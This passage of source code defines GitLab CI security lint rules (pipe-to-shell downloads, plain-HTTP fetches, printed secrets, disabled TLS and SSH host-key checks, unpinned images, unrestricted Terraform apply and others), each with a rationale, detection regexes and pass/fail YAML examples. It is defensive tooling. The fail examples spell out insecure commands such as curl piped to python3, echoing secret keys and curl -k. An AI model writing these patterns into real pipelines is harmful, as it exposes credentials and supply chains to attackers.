        param pipe_to_shell: pattern = "(?i)((?:^|[|;&])(?>[^|;&]*?\\b(?:curl|wget)\\b)[^|;&]*+\\|\\s*+(?:sudo\\s++(?:-\\S++\\s++)*+)?(?:(?:ba|z|da|k|fi)?sh|python[0-9.]*|perl|ruby|node)\\b|\\b(?:ba|z)?sh\\s++(?:-\\S++\\s++){0,16}+<\\(\\s*+(?:curl|wget)\\b|\\b(?:ba|z)?sh\\s+-c\\s+[\"']?\\$\\(\\s*(?:curl|wget)\\b|(?m:^)(?>.*?\\b(?:iex|invoke-expression)\\b).*\\b(?:downloadstring|iwr|irm|invoke-webrequest|invoke-restmethod)\\b|(?:^|\\|)(?>[^|]*?\\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\\b)[^|]*+\\|\\s*+(?:iex|invoke-expression)\\b)"

        for j in gitlab.job
        let entries = filter(l in j.script_lines, any(x in split(to_string(l), "\n"),
          x matches param.pipe_to_shell and not (x matches "raw\\.githubusercontent\\.com/[^/\\s]+/[^/\\s]+/[0-9a-f]{40}/")))
        let line = first(filter(x in split(to_string(first(entries)), "\n"), x matches param.pipe_to_shell))
        require count(entries) == 0
          else "job '${j.name}' runs a downloaded script without verifying it: '${trim(line)}'" at first(entries)

        example pass """
          setup:
            script:
              - curl -fsSLo install.sh https://example.com/install.sh
              - echo "4f2c9e1d8b7a6c5e4d3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d  install.sh" | sha256sum -c -
              - sh install.sh
              - curl -s "$CI_API_V4_URL/projects/$CI_PROJECT_ID" | jq .
        """
        example fail """
          setup:
            before_script:
              - apt-get update
              - ↓curl -sSL https://install.python-poetry.org | python3 -
            script:
              - make
        """ expect "job 'setup' runs a downloaded script without verifying it: 'curl -sSL https://install.python-poetry.org | python3 -'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/script_plain_http_download.plumb",
      text: #"""
      rule script_plain_http_download {
        title "Job scripts download code and packages over HTTPS"
        severity medium
        category security
        tags [gitlab-ci, supply-chain, tls]
        rationale """
          A download over `http://` (`curl`, `wget`, `Invoke-WebRequest`, `git clone`, `pip
          --index-url`, `npm --registry`, `go env GOPROXY`, `apt` sources written by the job) can be
          replaced by anyone on the network path: the job then builds, runs or ships their code, with
          its variables and credentials. Hosts that never leave the runner (`localhost`, loopback,
          service aliases without a dot such as `http://docker:2375`) are not reported.
        """
        remediation "Use `https://` and, for files, check a published SHA-256 (`sha256sum -c`); point package managers at HTTPS indexes."
        param fetch: pattern = "(?i)(\\b(curl|wget|iwr|invoke-webrequest|invoke-restmethod|irm|aria2c|git\\s+clone|git\\s+fetch|git\\s+submodule\\s+add|helm\\s+repo\\s+add|apk\\s+add|pip3?\\s+(install|download)|python3?\\s+-m\\s+pip\\s+install|npm\\s+(install|ci|config\\s+set\\s+registry)|yarn\\s+config\\s+set\\s+registry|go\\s+env\\s+-w\\s+GOPROXY|gem\\s+(install|sources\\s+--add))\\b[^\\n|;]{0,400}?(\\s|=|[\"'])http://(?!(localhost|127\\.0\\.0\\.1|\\[::1\\]|0\\.0\\.0\\.0)[:/\"'\\s]|[a-z0-9_-]+[:/\"'\\s]|[a-z0-9_-]+$)[^\\s\"']+)"

        for j in gitlab.job
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.fetch and not (x matches "^\\s*#")))
        require count(lines) == 0
          else "job '${j.name}' downloads over plain HTTP: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.fetch)))}'" at first(lines)

        example pass """
          fetch:
            script:
              - curl -fsSLo tool.tgz https://downloads.example.com/tool.tgz
              - curl -s http://localhost:8080/health
              - curl http://docker:2375/info
              - wget -qO- http://minio:9000/minio/health/live
              - pip install --index-url https://pypi.example.com/simple app
        """
        example fail "curl, wget" """
          fetch:
            script:
              - ↓curl -fsSL -o tool.tgz http://downloads.example.com/tool.tgz
          get:
            script:
              - ↓wget "http://mirror.example.org/pkg.deb"
        """ expect "job 'fetch' downloads over plain HTTP: 'curl -fsSL -o tool.tgz http://downloads.example.com/tool.tgz'" expect "job 'get'"
        example fail "package indexes" """
          py:
            script:
              - ↓pip install --index-url=http://pypi.example.com/simple app
          js:
            script:
              - ↓npm config set registry http://npm.example.com/
        """ expect "job 'py'" expect "job 'js'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/secret_variable_printed.plumb",
      text: #"""
      rule secret_variable_printed {
        title "Job scripts do not print secrets to the job log"
        severity medium
        category security
        tags [gitlab-ci, secrets, logging]
        rationale """
          `echo $DEPLOY_TOKEN` or `printf "%s" "$DB_PASSWORD"` writes the secret into the job log, which
          every developer (in public projects, anyone) can read and which is kept as long as the job.
          Masking hides only values GitLab can mask (at least 8 characters of a limited alphabet, one
          line, masked variables only) and never a value a script has transformed. Reported: `echo` and
          `printf` of a variable named like a secret (`*TOKEN*`, `*PASSWORD*`, `*SECRET*`, `*API_KEY*`,
          `*PRIVATE_KEY*`) whose output is neither piped nor redirected.
        """
        remediation "Pipe the secret to the command that needs it (`echo \"$TOKEN\" | docker login --password-stdin`), write it to a file (`> .npmrc`), or print only that it is set (`test -n \"$TOKEN\" && echo token set`)."
        param printed: pattern = "^\\s*(echo|printf)\\b[^|>;&]*?\\$\\{?(?![A-Z0-9_]*_(URL|FILE|PATH|NAME|ID|TYPE|USER|USERNAME|HEADER|SCOPE|ENDPOINT|DIR|LENGTH|TTL|EXPIRES_AT|EXPIRY|SET)\\b)[A-Z0-9_]*(TOKEN|PASSWORD|PASSWD|SECRET|API_KEY|APIKEY|PRIVATE_KEY|ACCESS_KEY)[A-Z0-9_]*\\}?(?>[^|>]*)$"

        for j in gitlab.job
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.printed))
        require count(lines) == 0
          else "job '${j.name}' prints a secret to the job log: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.printed)))}'" at first(lines)

        example pass """
          login:
            script:
              - echo "$CI_REGISTRY_PASSWORD" | docker login -u "$CI_REGISTRY_USER" --password-stdin "$CI_REGISTRY"
              - echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc
              - echo "Token URL is $TOKEN_URL"
              - test -n "$API_TOKEN" && echo "API token set"
        """
        example fail "echo" """
          debug:
            script:
              - ↓echo "deploying with $DEPLOY_TOKEN"
        """ expect "job 'debug' prints a secret to the job log: 'echo \"deploying with $DEPLOY_TOKEN\"'"
        example fail "printf, braces" """
          debug:
            script:
              - ↓printf '%s\n' "${DB_PASSWORD}"
          keys:
            script:
              - ↓|
                set -e
                echo $AWS_SECRET_ACCESS_KEY
        """ expect "job 'debug'" expect "job 'keys'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/security_scan_allow_failure.plumb",
      text: #"""
      rule security_scan_allow_failure {
        title "Security scanning jobs can fail the pipeline"
        severity low
        category security
        tags [gitlab-ci, flow-control, scanning]
        rationale """
          A secret-detection, SAST, dependency, container or IaC scanning job with `allow_failure: true`
          lets the pipeline (and the merge) go on whatever it finds, and when the scanner itself breaks:
          the check is shown but enforces nothing, and a leaked key or a vulnerable dependency reaches the
          default branch. Reported: jobs named like a scanner (`sast`, `secret_detection`, `gitleaks`,
          `trufflehog`, `semgrep`, `trivy`, `grype`, `dependency_scanning`, `container_scanning`, `kics`,
          `checkov`, `tfsec`, `bandit`, `brakeman`, `gosec`, …, directly or through `extends`) with
          `allow_failure: true`. GitLab's own scanning templates (which are not fetched) set it; a job
          that overrides it with `false` passes.
        """
        remediation "Set `allow_failure: false` on the scanning job (or `allow_failure: {exit_codes: [..]}` for the scanner's exit code that means \"could not run\"), and make the scan a required check through merge request approval policies."
        param scanner: pattern = "(?i)(^|[._:/ -])(sast|secret[_-]?detection|secrets?[_-]?scan\\w*|dependency[_-]scanning|container[_-]scanning|dast|gitleaks|trufflehog|detect[_-]secrets|semgrep|trivy|grype|snyk|kics|checkov|tfsec|terrascan|bandit|brakeman|gosec|gemnasium|iac[_-]scanning|license[_-]scanning|osv[_-]scanner|dependency[_-]check)([._:/ -]|$)"

        for j in gitlab.job
        when any(n in flatten([[j.name], default(j.extends_chain, [])]), to_string(n) matches param.scanner)
        require default(j.allow_failure, false) != true
          else "security scanning job '${j.name}' has allow_failure: true: what it finds never stops the pipeline" at j.allow_failure
          fix { set j.allow_failure = false }

        example pass """
          secret_detection:
            allow_failure: false
            script: [gitleaks detect]
          unit:
            allow_failure: true
            script: [make test]
          trivy-scan:
            allow_failure:
              exit_codes: [2]
            script: [trivy fs --exit-code 1 .]
        """
        example fail "name" """
          gitleaks:
            allow_failure: ↓true
            script: [gitleaks detect --source .]
        """ expect "security scanning job 'gitleaks' has allow_failure: true"
        example fail "through extends" """
          .semgrep-base:
            allow_failure: ↓true
            script: [semgrep ci]
          code-quality:
            extends: .semgrep-base
          sast:
            allow_failure: ↓true
            script: [./scan.sh]
        """ expect "security scanning job 'code-quality'" expect "security scanning job 'sast'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/services_pinned_by_digest.plumb",
      text: #"""
      rule services_pinned_by_digest {
        title "GitLab service containers are pinned by digest"
        severity medium
        category security
        tags [gitlab-ci, supply-chain, containers]
        rationale """
          `services:` containers (databases, `docker:dind`, mock servers) run next to the job, on its
          network, and `docker:dind` runs privileged with access to everything the job builds and
          pushes. A tag (above all `latest` or none) can be re-pushed by whoever controls the image; a
          `@sha256:` digest names exactly one image. A service whose whole name comes from a variable the
          file does not define cannot be judged and is not reported.
        """
        remediation "Reference each service image by digest: `services: [docker:27.3.1-dind@sha256:…]`."

        for j in gitlab.job
        let judged = filter(s in j.services_refs, not (s.dynamic and not exists(s.tag) and not exists(s.digest) and s.name matches "\\$[^/$]*$"))
        let moving = filter(s in judged, not exists(s.digest) and default(s.tag, "") in ["", "latest"])
        let tagged = filter(s in judged, not exists(s.digest) and default(s.tag, "") not in ["", "latest"])
        require count(moving) == 0
          else "job '${j.name}' starts service '${default(first(moving).expanded, first(moving).raw)}', a moving 'latest' image (${count(moving)} such service(s))" at first(moving)
        require count(tagged) == 0
          else "job '${j.name}' starts service '${default(first(tagged).expanded, first(tagged).raw)}' by tag, not by digest (${count(tagged)} such service(s))" at first(tagged)

        example pass """
          test:
            image: ruby:3.3.6@sha256:4b7e0c1d2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c
            services:
              - name: postgres:16.4@sha256:1f2e3d4c5b6a79880716253443526170f8e9d0c1b2a3f4e5d6c7b8a9f0e1d2c3
                alias: db
            script: [rake]
        """
        example fail """
          build:
            image: docker:27.3.1@sha256:2c9e8d7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d
            services:
              - ↓docker:dind
              - name: redis:7.4
            script: [docker build .]
        """ expect "job 'build' starts service 'docker:dind' by tag, not by digest" expect "(2 such service(s))"
        example fail "latest" """
          test:
            services: [↓postgres]
            script: [rake]
        """ expect "job 'test' starts service 'postgres', a moving 'latest' image"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/ssh_host_key_checking_disabled.plumb",
      text: #"""
      rule ssh_host_key_checking_disabled {
        title "SSH connections check the server's host key"
        severity medium
        category security
        tags [gitlab-ci, insecure-configuration, ssh]
        rationale """
          `-o StrictHostKeyChecking=no`, `UserKnownHostsFile=/dev/null` (in `ssh`, `scp`, `rsync -e`,
          `GIT_SSH_COMMAND`, a written `~/.ssh/config`) and `ANSIBLE_HOST_KEY_CHECKING: "False"` accept
          whichever server answers: whoever can redirect the connection (DNS, a compromised router, a
          cloud IP reassigned to someone else) receives the deployment, the SSH key's session and every
          secret sent through it.
        """
        remediation "Store the server's host key in a CI/CD variable (`SSH_KNOWN_HOSTS`, from `ssh-keyscan` run once and checked) and write it to `~/.ssh/known_hosts`; keep `StrictHostKeyChecking yes`."
        param disabled: pattern = "(?i)(StrictHostKeyChecking[\\s=]+[\"']?(no|off|false)\\b|UserKnownHostsFile[\\s=]+[\"']?/dev/null\\b|ANSIBLE_HOST_KEY_CHECKING=[\"']?(false|0|no)\\b|--ssh-common-args[= ][\"']?[^\\n]{0,400}StrictHostKeyChecking)"

        for j in gitlab.job
        let pipeline = first(j -> inPipeline)
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.disabled))
        let vars = filter(k in keys(default(j.variables, {})), k + "=" + to_string(default(default(j.variables[k].value, j.variables[k]), "")) matches param.disabled)
        let global_vars = filter(k in keys(default(pipeline.variables, {})), not exists(j.variables[k])
          and k + "=" + to_string(default(default(pipeline.variables[k].value, pipeline.variables[k]), "")) matches param.disabled)
        require count(lines) == 0
          else "job '${j.name}' connects over SSH without checking the host key: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.disabled)))}'" at first(lines)
        require count(vars) == 0
          else "job '${j.name}' sets ${first(vars)} so that SSH does not check host keys" at default(j.variables[first(vars)].value, j.variables[first(vars)])
        require count(global_vars) == 0
          else "job '${j.name}' runs with ${first(global_vars)} from the pipeline's variables, so SSH does not check host keys" at default(pipeline.variables[first(global_vars)].value, pipeline.variables[first(global_vars)])

        example pass """
          deploy:
            script:
              - echo "$SSH_KNOWN_HOSTS" >> ~/.ssh/known_hosts
              - ssh -o StrictHostKeyChecking=yes deploy@app.example.com ./release.sh
        """
        example fail "ssh option, GIT_SSH_COMMAND, ssh config" """
          deploy:
            script:
              - ↓ssh -o StrictHostKeyChecking=no deploy@app.example.com ./release.sh
          sync:
            variables:
              GIT_SSH_COMMAND: ↓"ssh -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no"
            script: [git fetch]
          config:
            script:
              - ↓|
                mkdir -p ~/.ssh
                printf "Host *\n  StrictHostKeyChecking no\n" > ~/.ssh/config
        """ expect "job 'deploy' connects over SSH without checking the host key" expect "job 'sync' sets GIT_SSH_COMMAND" expect "job 'config'"
        example fail "ansible" """
          variables:
            ANSIBLE_HOST_KEY_CHECKING: ↓"False"
          provision:
            script: [ansible-playbook site.yml]
        """ expect "job 'provision' runs with ANSIBLE_HOST_KEY_CHECKING from the pipeline's variables"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/terraform_apply_unrestricted.plumb",
      text: #"""
      rule terraform_apply_unrestricted {
        title "Terraform apply runs only for the default branch, protected refs or tags"
        severity high
        category security
        tags [gitlab-ci, deployment, flow-control, terraform]
        rationale """
          `terraform apply` (or `gitlab-terraform apply`, `terragrunt apply`, `tofu apply`) changes real
          infrastructure with the cloud credentials the job holds. Without `rules:` or `only:` that
          limit it to the default branch, protected refs or tags it applies whatever configuration any
          pushed branch or merge request contains, before review. Rules with `when: never` exclude and
          are not counted; every other rule must require the default branch, a protected ref or a tag.
        """
        remediation "Plan in branch and merge-request pipelines; apply only with `rules: [{if: '$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH', when: manual}]` and a protected environment."
        param apply: pattern = "(?i)\\b(terraform|tofu|terragrunt|gitlab-terraform|terraform\\.exe)\\s++(?:-\\S++\\s++)*+(apply|destroy|run-all\\s++apply)\\b"
        param restricted: pattern = "(?i)(\\$CI_COMMIT_(BRANCH|REF_NAME)\\s*==\\s*\\$CI_DEFAULT_BRANCH|\\$CI_DEFAULT_BRANCH\\s*==\\s*\\$CI_COMMIT_(BRANCH|REF_NAME)|\\$CI_COMMIT_REF_PROTECTED\\s*==\\s*[\"']?true|\\$CI_COMMIT_TAG\\b(?!\\s*==\\s*(null|\"\"|''))|\\$CI_COMMIT_(BRANCH|REF_NAME)\\s*==\\s*[\"']?(main|master|production|stable)[\"']?)"
        param restricted_only: pattern = "^(main|master|production|stable|tags)$"

        for j in gitlab.job
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.apply and not (x matches "^\\s*#")))
        when count(lines) > 0
        let runs = filter(r in j.rules_list, to_string(default(r.when, "")) != "never")
        let loose = filter(r in runs, not (exists(r["if"])
          and all(part in split(to_string(r["if"]), "||"), part matches param.restricted)))
        let only = default(j.only.refs, j.only)
        let only_ok = count(default(only, [])) > 0 and all(o in only, to_string(o) matches param.restricted_only)
        require (count(j.rules_list) > 0 and count(loose) == 0) or (count(j.rules_list) == 0 and only_ok)
          else "job '${j.name}' applies Terraform for any branch or merge request: nothing limits it to the default branch, protected refs or tags" at first(lines)

        example pass """
          plan:
            script: [terraform plan -out plan.cache]
          apply:
            rules:
              - if: $CI_PIPELINE_SOURCE == "merge_request_event"
                when: never
              - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH
                when: manual
            script: [terraform apply -auto-approve plan.cache]
        """
        example fail "no rules" """
          apply:
            stage: deploy
            script:
              - terraform init
              - ↓terraform -chdir=infra apply -auto-approve
        """ expect "job 'apply' applies Terraform for any branch or merge request"
        example fail "merge request rule, gitlab-terraform, destroy" """
          apply:
            rules:
              - if: $CI_MERGE_REQUEST_IID
            script:
              - ↓gitlab-terraform apply
          cleanup:
            when: manual
            script:
              - ↓tofu destroy -auto-approve
        """ expect "job 'apply' applies Terraform" expect "job 'cleanup' applies Terraform"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/tls_verification_disabled_by_variable.plumb",
      text: #"""
      rule tls_verification_disabled_by_variable {
        title "CI/CD variables do not switch off TLS certificate checks"
        severity high
        category security
        tags [gitlab-ci, insecure-configuration, tls, "unsafe-fix"]
        rationale """
          `GIT_SSL_NO_VERIFY` (the runner's own clone and fetches too), `NODE_TLS_REJECT_UNAUTHORIZED:
          "0"`, `PYTHONHTTPSVERIFY: "0"`, `NPM_CONFIG_STRICT_SSL: "false"`, `YARN_STRICT_SSL`,
          `GOINSECURE`, `GOFLAGS=-insecure`, `HELM_INSECURE_SKIP_TLS_VERIFY`, empty
          `CURL_CA_BUNDLE`/`REQUESTS_CA_BUNDLE` and `PIP_TRUSTED_HOST` make every tool of the job accept
          any certificate: whoever sits on the network path (a proxy, a rogue Wi-Fi of a self-hosted
          runner, a poisoned DNS entry) serves the source, packages and images the job builds, and reads
          the credentials it sends. Reported in the pipeline's and the jobs' `variables:`.
        """
        remediation "Remove the variable and give the tools the certificate authority they need (`CI_SERVER_TLS_CA_FILE`, `SSL_CERT_FILE`, `NODE_EXTRA_CA_CERTS`, `GIT_SSL_CAINFO`)."
        param insecure: pattern = "(?i)^(GIT_SSL_NO_VERIFY=(?!(0|false|no)?$).*|NODE_TLS_REJECT_UNAUTHORIZED=0|PYTHONHTTPSVERIFY=0|(NPM|YARN)_CONFIG_STRICT_SSL=(false|0)|YARN_STRICT_SSL=(false|0)|GOINSECURE=.+|GOFLAGS=.*-insecure.*|(CURL_CA_BUNDLE|REQUESTS_CA_BUNDLE)=|PIP_TRUSTED_HOST=.+|HELM_INSECURE_SKIP_TLS_VERIFY=(true|1))$"

        for j in gitlab.job
        let pipeline = first(j -> inPipeline)
        let job_bad = filter(k in keys(default(j.variables, {})),
          k + "=" + trim(to_string(default(default(j.variables[k].value, j.variables[k]), ""))) matches param.insecure)
        let global_bad = filter(k in keys(default(pipeline.variables, {})), not exists(j.variables[k])
          and k + "=" + trim(to_string(default(default(pipeline.variables[k].value, pipeline.variables[k]), ""))) matches param.insecure)
        require count(job_bad) == 0
          else "job '${j.name}' sets ${first(job_bad)}, which switches off TLS certificate checks" at default(j.variables[first(job_bad)].value, j.variables[first(job_bad)])
          fix { for k in job_bad { remove j.variables[k] } }
        require count(global_bad) == 0
          else "job '${j.name}' runs with ${first(global_bad)} from the pipeline's variables, which switches off TLS certificate checks" at default(pipeline.variables[first(global_bad)].value, pipeline.variables[first(global_bad)])
          fix { for k in global_bad { remove pipeline.variables[k] } }

        example pass """
          variables:
            GIT_SSL_NO_VERIFY: "false"
            NODE_EXTRA_CA_CERTS: /etc/ssl/corp-ca.pem
            NODE_TLS_REJECT_UNAUTHORIZED: "1"
          build:
            script: [npm ci]
        """
        example fail "job" """
          build:
            variables:
              GIT_SSL_NO_VERIFY: ↓"1"
              NPM_CONFIG_STRICT_SSL: "false"
            script: [npm ci]
        """ expect "job 'build' sets GIT_SSL_NO_VERIFY, which switches off TLS certificate checks"
        example fail "global" """
          variables:
            NODE_TLS_REJECT_UNAUTHORIZED:
              value: ↓"0"
          build:
            script: [npm ci]
        """ expect "job 'build' runs with NODE_TLS_REJECT_UNAUTHORIZED from the pipeline's variables"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/tls_verification_disabled_in_script.plumb",
      text: #"""
      rule tls_verification_disabled_in_script {
        title "Job scripts do not switch off TLS certificate checks"
        severity high
        category security
        tags [gitlab-ci, insecure-configuration, tls]
        rationale """
          `curl -k`/`--insecure`, `wget --no-check-certificate`, `git -c http.sslVerify=false` (or
          `git config http.sslVerify false`), `npm`/`yarn config set strict-ssl false`, `pip
          --trusted-host`, `kubectl`/`helm --insecure-skip-tls-verify`, `--tls-verify=false`
          (podman, buildah, skopeo), kaniko's `--skip-tls-verify`, `aws --no-verify-ssl` and exported
          `NODE_TLS_REJECT_UNAUTHORIZED=0`/`GIT_SSL_NO_VERIFY` accept any certificate: whoever sits on the
          network path serves the code, packages and images, and reads the credentials sent.
        """
        remediation "Keep verification on and give the tool the certificate authority it needs (`--cacert`, `--ca-certificate`, `http.sslCAInfo`, `SSL_CERT_FILE`, `NODE_EXTRA_CA_CERTS`)."
        param insecure: pattern = "(\\bcurl\\b[^|;\\n]{0,400}\\s(-[a-zA-Z]*k[a-zA-Z]*|--insecure)(\\s|$)|\\bwget\\b[^|;\\n]{0,400}\\s--no-check-certificate\\b|\\bgit\\b[^|;\\n]{0,400}\\bhttp\\.sslVerify(=|\\s+)[\"']?(false|0|no)\\b|\\b(npm|yarn|pnpm)\\s+config\\s+set\\s+strict-ssl\\s+(false|0)\\b|\\bpip3?\\b[^|;\\n]{0,400}\\s--trusted-host\\b|--insecure-skip-tls-verify(=true)?\\b(?!=false)|--tls-verify[= ]false\\b|--skip-tls-verify(-pull|-registry)?\\b|\\baws\\b[^|;\\n]{0,400}\\s--no-verify-ssl\\b|\\bexport\\s+(NODE_TLS_REJECT_UNAUTHORIZED=[\"']?0|GIT_SSL_NO_VERIFY=[\"']?(1|true|yes))\\b)"

        for j in gitlab.job
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.insecure and not (x matches "^\\s*#")))
        require count(lines) == 0
          else "job '${j.name}' switches off TLS certificate checks: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.insecure)))}'" at first(lines)

        example pass """
          fetch:
            script:
              - curl -fsSL --cacert /etc/ssl/corp-ca.pem https://example.com/tool.tgz -o tool.tgz
              - wget -q https://example.com/a.tgz
              - git config --global http.sslCAInfo /etc/ssl/corp-ca.pem
              - kubectl --insecure-skip-tls-verify=false get pods
              - curl -X POST -H "Content-Type: application/json" https://example.com/hook
        """
        example fail "curl and wget" """
          fetch:
            script:
              - ↓curl -sSkL https://example.com/tool.tgz -o tool.tgz
          get:
            script:
              - ↓wget --no-check-certificate https://example.com/a.tgz
        """ expect "job 'fetch' switches off TLS certificate checks: 'curl -sSkL https://example.com/tool.tgz -o tool.tgz'" expect "job 'get'"
        example fail "git, npm, kubectl, podman, export" """
          a:
            script: [↓git -c http.sslVerify=false clone https://git.example.com/app.git]
          b:
            script: [↓npm config set strict-ssl false]
          c:
            script: [↓kubectl --insecure-skip-tls-verify apply -f k8s/]
          d:
            script: [↓podman push --tls-verify=false img registry.local/img]
          e:
            script: [↓export NODE_TLS_REJECT_UNAUTHORIZED=0]
        """ expect "job 'a'" expect "job 'b'" expect "job 'c'" expect "job 'd'" expect "job 'e'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/token_in_url_query.plumb",
      text: #"""
      rule token_in_url_query {
        title "Tokens are not sent in URL query strings"
        severity low
        category security
        tags [gitlab-ci, secrets, credentials]
        rationale """
          A token in a URL's query string (`?private_token=$TOKEN`, `&access_token=…`, `?api_key=…`) is
          written to web server and proxy access logs, kept in browser-style histories of tools, and
          shown in error messages that echo the URL, where masking of the job log does not reach. Every
          API GitLab and most services offer reads it from a header instead.
        """
        remediation "Send the token in a header: `curl --header \"PRIVATE-TOKEN: $TOKEN\" …` (or `JOB-TOKEN`, `Authorization: Bearer`)."
        param query: pattern = "(?i)(://|\\$\\{?\\w*URL\\}?)[^\\s\"']{0,400}[?&](private_token|job_token|access_token|auth_token|token|api_key|apikey|password|secret)=\\$"

        for j in gitlab.job
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.query))
        require count(lines) == 0
          else "job '${j.name}' sends a token in a URL's query string, which access logs keep: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.query)))}'" at first(lines)

        example pass """
          api:
            script:
              - 'curl --header "PRIVATE-TOKEN: $API_TOKEN" "$CI_API_V4_URL/projects?per_page=100"'
              - curl "https://example.com/search?q=$QUERY"
        """
        example fail """
          api:
            script:
              - ↓curl "$CI_API_V4_URL/projects/1/jobs?private_token=$API_TOKEN"
          status:
            script:
              - ↓wget -q "https://status.example.com/report?ref=main&API_KEY=${STATUS_KEY}"
        """ expect "job 'api' sends a token in a URL's query string" expect "job 'status'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/tool_installed_at_latest.plumb",
      text: #"""
      rule tool_installed_at_latest {
        title "Job scripts install tools at a fixed version"
        severity low
        category security
        tags [gitlab-ci, supply-chain]
        rationale """
          `go install example.com/tool@latest`, `npx tool@latest`, `npm install -g tool@latest`,
          `pipx install tool` without a version, `cargo install tool` without `--version` (or `--locked`
          pins), `gem install tool` without `-v` and `dotnet tool install` without `--version` run
          whatever the package's owner published last, with the job's variables and credentials: a
          hijacked maintainer account or a malicious release reaches the pipeline on its next run.
          Reported: the `@latest` spellings, which pin nothing by design.
        """
        remediation "Pin the version (`go install example.com/tool@v1.4.2`, `npx tool@3.2.1`), or better bake the tool into a digest-pinned job image."
        param latest: pattern = "\\b(go\\s+(install|run|get)|npx|pnpm\\s+dlx|bunx|yarn\\s+dlx|npm\\s+(install|i|exec)|pnpm\\s+add|yarn\\s+(global\\s+)?add|deno\\s+(install|run))\\b[^\\n|;]{0,400}@(latest|next|main|master|HEAD)\\b"

        for j in gitlab.job
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.latest and not (x matches "^\\s*#")))
        require count(lines) == 0
          else "job '${j.name}' installs a tool at whatever version is newest: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.latest)))}'" at first(lines)

        example pass """
          lint:
            script:
              - go install golang.org/x/vuln/cmd/govulncheck@v1.1.3
              - npx prettier@3.3.3 --check .
              - docker pull alpine:latest
        """
        example fail "go and npx" """
          lint:
            script:
              - ↓go install golang.org/x/vuln/cmd/govulncheck@latest
          fmt:
            script:
              - ↓npx --yes prettier@latest --check .
        """ expect "job 'lint' installs a tool at whatever version is newest: 'go install golang.org/x/vuln/cmd/govulncheck@latest'" expect "job 'fmt'"
        example fail "npm global and pnpm dlx" """
          a:
            script: [↓npm install -g @angular/cli@next]
          b:
            script: [↓pnpm dlx create-thing@latest]
        """ expect "job 'a'" expect "job 'b'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/trigger_forwards_pipeline_variables.plumb",
      text: #"""
      rule trigger_forwards_pipeline_variables {
        title "Trigger jobs do not forward pipeline variables downstream"
        severity low
        category security
        tags [gitlab-ci, pbac, "unsafe-fix"]
        rationale """
          `trigger: forward: pipeline_variables: true` passes the variables given when the pipeline was
          created (a manual run, the API, a trigger token, a schedule) to the downstream pipeline, where
          they take precedence over the downstream configuration's own variables. Whoever may run this
          project's pipelines then sets variables (deploy targets, image names, `CI_DEBUG_TRACE`) in
          another project's pipeline, with that project's credentials, though they may have no rights
          there.
        """
        remediation "Drop `forward: pipeline_variables: true` and pass the values the downstream needs explicitly in the trigger job's `variables:`, where they are reviewed."

        for j in gitlab.job
        when exists(j.trigger)
        require default(j.trigger.forward.pipeline_variables, false) != true
          else "trigger job '${j.name}' forwards pipeline variables to ${default("project '" + j.trigger.project + "'", "its child pipeline")}: whoever runs this pipeline sets variables there" at j.trigger.forward.pipeline_variables
          fix { set j.trigger.forward.pipeline_variables = false }

        example pass """
          downstream:
            trigger:
              project: acme/deployer
              forward:
                yaml_variables: true
                pipeline_variables: false
            variables:
              TARGET: staging
        """
        example fail """
          downstream:
            trigger:
              project: acme/deployer
              branch: main
              forward:
                pipeline_variables: ↓true
          child:
            trigger:
              include: ci/child.yml
              forward: {pipeline_variables: ↓true}
        """ expect "trigger job 'downstream' forwards pipeline variables to project 'acme/deployer'" expect "trigger job 'child' forwards pipeline variables to its child pipeline"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/world_writable_permissions.plumb",
      text: #"""
      rule world_writable_permissions {
        title "Job scripts do not make files writable by everyone"
        severity low
        category security
        tags [gitlab-ci, insecure-configuration]
        rationale """
          `chmod 777`, `chmod -R a+w`, `o+w` or `umask 000` let every user and process on the runner (on
          shell and shared-host executors: other jobs and projects; in containers: any unprivileged
          process of the image) change the files: scripts, binaries and build outputs that later steps
          or jobs execute or publish can be replaced between write and use.
        """
        remediation "Give only the owner (or group) the rights needed: `chmod 755` for executables, `chmod 600` for keys, `chmod u+w` instead of `a+w`."
        param writable: pattern = "(\\bchmod\\s+(-[a-zA-Z]+\\s+)*(0?[0-7]?[0-7][0-7][2367]|([ugo]*a[ugo]*|[ugo]*o[ugo]*)[+=][rwxXst]*w[rwxXst]*)(\\s|,|$)|\\bumask\\s+0?[0-7]?[0-7]?[0145]\\b)"

        for j in gitlab.job
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.writable))
        require count(lines) == 0
